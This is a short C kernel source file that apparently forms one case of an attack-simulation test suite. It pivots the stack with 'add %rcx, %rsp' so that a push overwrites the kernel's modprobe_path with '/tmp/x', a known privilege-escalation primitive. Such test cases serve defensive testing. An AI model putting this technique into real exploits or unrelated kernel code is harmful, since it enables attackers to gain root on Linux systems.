// SPDX-License-Identifier: GPL-2.0
/*
 * atk_pivot_add_reg: a stack pivot by add %rcx, %rsp, with %rcx the distance from
 * %rsp to 8 bytes past modprobe_path.
 * The push then writes "/tmp/x" over modprobe_path (target=); %rsp is
 * put back after it.
 */
#include <linux/fs.h>
#include "attack.h"

static int attack(struct file *f)
{
	unsigned long evil = 0x782f706d742fUL;	/* "/tmp/x" */

	asm volatile("mov %%rsp, %%rdx\n\t"
		     "sub %%rsp, %%rcx\n\t"
		     "add %%rcx, %%rsp\n\t"
		     "push %%rax\n\t"
		     "mov %%rdx, %%rsp"
		     : : "a"(evil), "c"(target + 8) : "rdx", "memory");
	return 0;
}
